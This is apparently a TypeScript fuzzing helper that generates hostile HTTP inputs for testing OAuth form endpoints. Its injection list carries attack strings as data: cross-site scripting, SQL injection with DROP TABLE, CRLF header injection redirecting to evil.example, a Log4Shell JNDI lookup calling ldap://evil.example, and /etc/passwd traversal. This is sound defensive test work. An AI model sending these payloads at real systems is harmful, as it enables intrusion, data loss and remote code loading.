// What a hostile client sends (issue 9 item 7): strings that look like injections, arbitrary and
// broken Unicode, very long values; odd methods, header names and values; content types.
import fc from 'fast-check'

/** Strings that try to break out of a context: HTML, SQL, CRLF, NUL, percent escapes, prototypes. */
export const INJECTIONS: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "' OR '1'='1' --",
  '1; DROP TABLE grants; --',
  '\r\nSet-Cookie: session=stolen',
  'x\r\nLocation: https://evil.example/',
  '%0d%0aX-Injected: 1',
  '%00',
  '\u0000',
  'a\u0000b',
  '../../../../etc/passwd',
  '${jndi:ldap://evil.example/a}',
  '{{7*7}}',
  '__proto__',
  'constructor',
  'hasOwnProperty',
  '%',
  '%%',
  '%zz',
  '%C3%28',
  '%ED%A0%80',
  '+',
  '&',
  '=',
  ';',
  ',',
  '"',
  '\\',
  ' ',
  '\t',
  '\uFEFF',
  '\uD800',
  '\uDFFFx',
  '😀',
  'é',
  '\u202Eevil',
  'null',
  'undefined',
  '[]',
  '{}',
  '1e309',
]

/** One UTF-16 code unit, lone surrogates included. */
const codeUnit = fc.integer({ min: 0, max: 0xffff }).map((unit) => String.fromCharCode(unit))

/** A long run of one character: the sizes of a value, not of a body, mostly. */
const longString = fc
  .tuple(fc.constantFrom('a', '%', '%4', 'é', '<', '😀', '\u0000', '&', '+'), fc.integer({ min: 300, max: 6000 }))
  .map(([unit, count]) => unit.repeat(count))

/** A value a hostile client could put anywhere. */
export const hostileString: fc.Arbitrary<string> = fc.oneof(
  { weight: 4, arbitrary: fc.constantFrom(...INJECTIONS) },
  { weight: 3, arbitrary: fc.string({ maxLength: 40 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 1, arbitrary: fc.string({ unit: codeUnit, maxLength: 12 }) },
  { weight: 1, arbitrary: longString },
)

const BASE64URL = 'ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_'

/**
 * A value the test treats as a secret (a code, a token, a secret, a verifier, a `state`): long,
 * random and tagged, so that finding it in an answer cannot be chance.
 */
export const canary: fc.Arbitrary<string> = fc
  .string({ unit: fc.constantFrom(...BASE64URL), minLength: 24, maxLength: 24 })
  .map((random) => `cnry${random}`)

/** RFC 9110 tchar: what a method or a header name may be made of. */
const TCHAR = "!#$%&'*+-.^_`|~0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
const token = fc.string({ unit: fc.constantFrom(...TCHAR), minLength: 1, maxLength: 16 })

/** A method that is not POST in any casing; some no Web `Request` can carry (that door skips them). */
export const otherMethod: fc.Arbitrary<string> = fc
  .oneof(
    { weight: 4, arbitrary: fc.constantFrom('GET', 'HEAD', 'PUT', 'DELETE', 'PATCH', 'OPTIONS', 'QUERY', 'PROPFIND', 'CONNECT', 'TRACE', 'get', 'POSTT', 'P0ST', 'POS', 'POST ', ' POST', 'POST\r\n', '') },
    { weight: 2, arbitrary: token },
    { weight: 1, arbitrary: hostileString },
  )
  .filter((method) => method.toUpperCase() !== 'POST')

/** POST in a casing a client might send (the doors take the method case-insensitively). */
export const postMethod: fc.Arbitrary<string> = fc.constantFrom('POST', 'POST', 'POST', 'post', 'Post')

/** A header name, odd casing and all. */
export const headerName: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('X-Forwarded-For', 'COOKIE', 'dpop', 'Accept', 'X-HTTP-Method-Override', 'Origin', 'x-request-id', 'Content-Encoding', 'Accept-Charset', 'Forwarded', 'If-None-Match', 'X-Üñï'),
  token,
)

/** A header value a Web `Headers` object takes: Latin-1, no CR, LF or NUL. */
const latin1Value = fc.string({
  unit: fc.integer({ min: 0x20, max: 0xff }).filter((unit) => unit !== 0x7f).map((unit) => String.fromCharCode(unit)),
  maxLength: 60,
})

/** A header value: mostly what `Headers` takes; sometimes what only a lower-door caller could pass. */
export const headerValue: fc.Arbitrary<string> = fc.oneof(
  { weight: 5, arbitrary: latin1Value },
  { weight: 1, arbitrary: fc.constant('') },
  { weight: 1, arbitrary: fc.integer({ min: 1000, max: 20_000 }).map((n) => 'v'.repeat(n)) },
  { weight: 1, arbitrary: hostileString },
)

export const FORM_TYPE = 'application/x-www-form-urlencoded'

/** Content types the form endpoints must take as a form in UTF-8. */
export const GOOD_CONTENT_TYPES: readonly string[] = [
  FORM_TYPE,
  `${FORM_TYPE};charset=UTF-8`,
  `${FORM_TYPE}; charset=utf-8`,
  'Application/X-WWW-Form-Urlencoded',
  `${FORM_TYPE} ; charset="utf-8"`,
  `${FORM_TYPE}; foo=bar`,
  `${FORM_TYPE};`,
]

/** Content types the form endpoints must refuse (RFC 6749 §3.2: a form, UTF-8). */
export const BAD_CONTENT_TYPES: readonly string[] = [
  '',
  'application/json',
  'text/plain',
  'multipart/form-data; boundary=x',
  `${FORM_TYPE}; charset=iso-8859-1`,
  `${FORM_TYPE}; charset=utf-16`,
  `${FORM_TYPE}; charset=utf8`,
  `${FORM_TYPE}x`,
  `${FORM_TYPE}, text/plain`,
  'application/*',
  '*/*',
  'x-www-form-urlencoded',
]

/** Byte sequences that are not UTF-8: a lone continuation byte, an overlong form, a surrogate, a cut sequence. */
export const INVALID_UTF8: readonly (readonly number[])[] = [[0xff], [0x80], [0xc3, 0x28], [0xc0, 0xaf], [0xed, 0xa0, 0x80], [0xe2, 0x82], [0xf4, 0x90, 0x80, 0x80]]

/** UTF-8 bytes of a string, lone surrogates as U+FFFD (what a client's encoder would send). */
export const utf8 = (text: string): Uint8Array => new TextEncoder().encode(text)

/** `%XX` of each byte value, and the bytes left as they are (RFC 3986 unreserved). */
const ESCAPES = Array.from({ length: 256 }, (_, byte) => `%${byte.toString(16).toUpperCase().padStart(2, '0')}`)
const UNRESERVED = /[A-Za-z0-9._~-]/

/** Percent-encodes every byte of the UTF-8 form of `text` that is not unreserved (or every byte at all). */
export function percentEncode(text: string, everyByte = false): string {
  if (!everyByte) {
    try {
      // The fast path: well-formed text (a lone surrogate makes it throw); then RFC 3986's sub-delims too.
      return encodeURIComponent(text).replace(/[!'()*]/g, (char) => ESCAPES[char.charCodeAt(0)] ?? char)
    } catch {
      // expected: a lone surrogate; the byte loop below sends it as U+FFFD, as a client's encoder would.
    }
  }
  let out = ''
  for (const byte of utf8(text)) {
    const char = String.fromCharCode(byte)
    out += !everyByte && UNRESERVED.test(char) ? char : ESCAPES[byte]
  }
  return out
}

/** As `URLSearchParams` encodes: a space is `+`. */
export function formEncode(text: string): string {
  return percentEncode(text).replace(/%20/g, '+')
}

/** The HTTP Basic header of RFC 6749 §2.3.1: id and secret form-encoded, then base64. */
export function basicHeader(clientId: string, secret: string, scheme = 'Basic', spaces = 1): string {
  const credentials = `${formEncode(clientId)}:${formEncode(secret)}`
  return `${scheme}${' '.repeat(spaces)}${btoa(credentials)}`
}

/** Authorization header values no client authentication can be read from (RFC 7617 §2). */
export const MALFORMED_BASIC: readonly string[] = [
  'Basic',
  'Basic ',
  'Basic !!!!',
  `Basic ${btoa('no-colon')}`,
  `Basic ${btoa(':secret-without-id')}`,
  `Basic ${btoa('music:%zz')}`,
  `Basic ${btoa('mu%ZZsic:secret')}`,
  'Basic bXVzaWM6====',
  'Basicbm90LWJhc2lj',
  `Basic ${btoa(String.fromCharCode(0xff, 0x3a, 0x61))}`,
  'Basic\tbXVzaWM6eA==',
  'Basic bXVz aWM6eA==',
  'Bearer some-token-value',
  'Digest username="music", realm="x"',
  'NTLM TlRMTVNTUAABAAAAB4IIog==',
  'DPoP eyJhbGciOiJFUzI1NiJ9',
  '',
]
